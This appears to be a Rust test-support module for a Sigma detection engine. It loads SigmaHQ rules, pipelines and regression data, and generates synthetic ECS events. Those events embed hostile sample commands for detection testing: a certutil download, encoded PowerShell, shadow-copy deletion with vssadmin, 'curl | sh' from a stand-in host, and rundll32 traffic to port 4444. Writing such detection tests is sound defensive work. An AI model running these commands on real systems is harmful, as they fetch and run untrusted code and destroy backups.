//! Shared access to the SigmaHQ data and the pipelines.

use std::path::{Path, PathBuf};

use std::sync::OnceLock;

use ward_sigma::{Engine, Pipeline, RuleError, RuleSet};

/// Every SigmaHQ rule loaded with the pipelines, once per test binary.
pub fn sigmahq() -> &'static (RuleSet, Vec<RuleError>, Engine) {
    static SET: OnceLock<(RuleSet, Vec<RuleError>, Engine)> = OnceLock::new();
    SET.get_or_init(|| {
        let (set, errors) = RuleSet::load_paths(&rule_dirs(), &pipelines());
        let engine = Engine::new(&set);
        (set, errors, engine)
    })
}

pub fn crate_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

pub fn sigma_dir() -> PathBuf {
    crate_dir().join("../../../shared/data/sigma")
}

pub fn spec_dir() -> PathBuf {
    crate_dir().join("../../../shared/data/sigma-specification")
}

pub fn pipelines() -> Vec<Pipeline> {
    [
        crate_dir().join("pipelines/windows-raw.yml"),
        crate_dir().join("../../pipelines/ward-ecs.yml"),
    ]
    .iter()
    .map(|f| Pipeline::load(f).unwrap())
    .collect()
}

/// Every SigmaHQ rule directory (`rules`, `rules-*`).
pub fn rule_dirs() -> Vec<PathBuf> {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(sigma_dir())
        .expect("SigmaHQ data at ../shared/data/sigma")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| {
            p.is_dir()
                && p.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("rules"))
        })
        .collect();
    dirs.sort();
    dirs
}

/// A regression case: the rule id and the events of its JSON file.
pub struct RegressionCase {
    pub rule_id: String,
    pub file: PathBuf,
    pub events: Vec<serde_json::Value>,
}

fn find_info(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            find_info(&p, out);
        } else if p.file_name().is_some_and(|n| n == "info.yml") {
            out.push(p);
        }
    }
}

pub fn regression_cases() -> Vec<RegressionCase> {
    let mut infos = Vec::new();
    find_info(&sigma_dir().join("regression_data"), &mut infos);
    infos.sort();
    let mut cases = Vec::new();
    for info in infos {
        let text = std::fs::read_to_string(&info).unwrap();
        let rule_id = text
            .lines()
            .skip_while(|l| !l.starts_with("rule_metadata"))
            .find_map(|l| l.trim().strip_prefix("- id:").map(|s| s.trim().to_string()))
            .unwrap();
        let dir = info.parent().unwrap();
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            let p = e.path();
            if p.extension().is_some_and(|x| x == "json") {
                let body = std::fs::read_to_string(&p).unwrap();
                let events: Vec<serde_json::Value> = serde_json::Deserializer::from_str(&body)
                    .into_iter()
                    .map(Result::unwrap)
                    .collect();
                cases.push(RegressionCase {
                    rule_id: rule_id.clone(),
                    file: p,
                    events,
                });
            }
        }
    }
    cases
}

/// Generated Ward ECS events that SigmaHQ process/network rules can match.
pub fn ecs_events() -> Vec<serde_json::Value> {
    use serde_json::json;
    let procs = [
        (
            "C:\\Windows\\System32\\whoami.exe",
            "whoami /all",
            "C:\\Windows\\System32\\cmd.exe",
        ),
        (
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -split -f http://x/a.exe a.exe",
            "C:\\Windows\\explorer.exe",
        ),
        (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell -enc SQBFAFgA",
            "C:\\Windows\\System32\\wscript.exe",
        ),
        (
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin delete shadows /all /quiet",
            "C:\\Windows\\System32\\cmd.exe",
        ),
        (
            "C:\\Program Files\\App\\app.exe",
            "app.exe --update",
            "C:\\Windows\\explorer.exe",
        ),
        (
            "/usr/bin/curl",
            "curl -s http://example.com/x.sh | sh",
            "/bin/bash",
        ),
    ];
    let mut out = Vec::new();
    for (i, (exe, cmd, parent)) in procs.iter().enumerate() {
        let os = if exe.starts_with('/') {
            "linux"
        } else {
            "windows"
        };
        out.push(json!({"event": {"category": "process", "type": "start"}, "host": {"name": format!("h{i}"), "os": {"type": os}},
            "process": {"executable": exe, "command_line": cmd, "parent": {"executable": parent}}, "user": {"name": "bob"}}));
    }
    out.push(json!({"event": {"category": "network"}, "host": {"os": {"type": "windows"}}, "destination": {"ip": "10.1.1.1", "port": 4444},
        "process": {"executable": "C:\\Windows\\System32\\rundll32.exe"}}));
    out
}
